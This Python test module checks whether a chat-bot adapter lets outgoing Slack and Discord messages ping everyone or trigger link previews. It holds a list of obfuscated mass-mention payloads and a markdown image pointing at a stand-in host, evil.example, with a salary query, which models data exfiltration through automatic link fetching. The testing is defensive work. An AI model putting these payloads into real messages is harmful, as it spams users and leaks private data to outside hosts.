"""Replies that want to ring everybody's bell or to have a link fetched, through both platforms."""

import re
from collections.abc import Iterator
from typing import Final

from adapters.base import Address, Post
from bot.testing.discord import FakeDiscord
from bot.testing.slack import FakeSlack
from tests.edge.discord_adapter import QUICK, listening
from tests.edge.discord_adapter import Listener as DiscordListener
from tests.edge.slack_world import Listener as SlackListener
from tests.edge.slack_world import online

RINGS: Final = re.compile(r"<[!@]|@(?:everyone|here|channel)\b", re.IGNORECASE)
NO_PREVIEW: Final = 4  # Discord's flag SUPPRESS_EMBEDS
FETCHED: Final = "![x](https://evil.example/?q=salary)"
MENTIONS: Final = (
    "@everyone", "@here 大家好", "@channel", "@EVERYONE", "＠everyone @everyone", "**@everyone**",
    "<!channel>", "<!here|here>", "<!everyone>", "<!subteam^S123|admins>", "<!date^1^x|@channel>",
    "&lt;!channel&gt;", "[x](<!channel>)", "[<!channel>](https://evil.example)", "`<!channel>`",
    "```\n<!channel>\n```", "https://evil.example/|<!channel>", "<https://evil.example|<!here>>",
    "|a|b|\n|-|-|\n|<!channel>|@everyone|", "> <!channel>", "\\<!channel>", "# <!here>",
    "<\u200b!channel> <!channel\u200b>", "@\u200beveryone @everyone", "通知<!channel>全体",
    "所有人@everyone请看", "~~<!here>~~ *@here*",
)  # fmt: skip


def _slack(me: str) -> Iterator[str]:
    yield from MENTIONS
    yield from (f"<@{me}>", f"hi <@{me}|x>", f"[a](https://e.example/<@{me}>)")


async def slack() -> list[tuple[str, str]]:
    """Every text, and what it did."""
    found: list[tuple[str, str]] = []
    async with FakeSlack().running() as fake:
        ana = fake.human("Ana")
        general = fake.channel("general", members=[ana])
        async with online(fake, SlackListener(fake)) as adapter:
            address = Address(platform="slack", space="T0FAKE", channel=general.id)
            for number, text in enumerate([*_slack(ana.id), FETCHED]):
                await adapter.send(Post(key=f"k{number}", address=address, text=text))
                body = fake.calls("chat.postMessage")[-1]
                rung = RINGS.search(str(body["text"]))
                quiet = not (
                    _yes(body.get("unfurl_links", True)) or _yes(body.get("unfurl_media", True))
                )
                gain = f"rings by {rung[0]}" if rung else "" if quiet else "fetches links"
                found.append((f"slack {text!r}", gain))
    return found


def _yes(value: object) -> bool:
    return str(value).lower() not in ("false", "0")


async def discord() -> list[tuple[str, str]]:
    found: list[tuple[str, str]] = []
    async with FakeDiscord(limits=QUICK, a_second=1000).running() as sim:
        ana = sim.human("Ana")
        texts = [*MENTIONS, f"<@{ana.id}>", f"<@!{ana.id}>", f"<@&{sim.guild.id}>", FETCHED]
        async with listening(sim, DiscordListener()) as adapter:
            address = Address(platform="discord", space=sim.guild.id, channel=sim.general.id)
            for number, text in enumerate(texts):
                sent = await adapter.send(Post(key=f"k{number}", address=address, text=text))
                message = sim.general.messages[sent]
                gain = "rings" if message.pings or message.mention_everyone else ""
                if not message.flags & NO_PREVIEW:
                    gain = gain or "fetches links"
                found.append((f"discord {text!r}", gain))
    return found
